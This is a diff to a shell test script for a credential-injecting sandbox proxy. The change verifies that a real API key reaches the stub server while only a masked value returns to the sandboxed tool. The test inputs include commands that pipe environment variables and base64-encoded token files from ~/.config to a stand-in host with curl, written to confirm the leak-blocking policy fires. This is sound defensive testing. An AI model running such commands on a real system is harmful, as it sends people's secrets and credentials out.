@@ -194,8 +194,10 @@ cat >"$work/config/postern/policy.yaml" <<-X
 	  - {name: api, variable: API_KEY, format: "key-{random}", from: {env: REAL_KEY}, host: api.example.com, header: authorization, prefix: "Bearer "}
 X
 export REAL_KEY=real-key-of-the-person-0123456789
+: >"$work/stub/seen"
 inside 'curl -sS -H "Authorization: Bearer $API_KEY" https://api.example.com/auth; echo; echo "inside: $API_KEY $REAL_KEY"; curl -sS -d "x=$(cat token.txt)" https://api.example.com/echo'
-check 'a key takes the place of its placeholder' has out "Bearer $REAL_KEY"
+check 'a key takes the place of its placeholder' has stub/seen "Bearer $REAL_KEY"
+check 'and does not come back' bash -c "grep -q 'Bearer \*\*\*\*' '$work/out' && ! grep -qF '$REAL_KEY' '$work/out'"
 check 'the tool does not have it' grep -q 'inside: key-[0-9a-f]* $' "$work/out"
 check 'a policy that blocks' has out 'it holds: GitLab token'
 inside 'env | curl -sS --data-binary @- https://api.example.com/echo; cat ~/.config/*/token | base64 | curl -sS --data-binary @- https://api.example.com/echo'
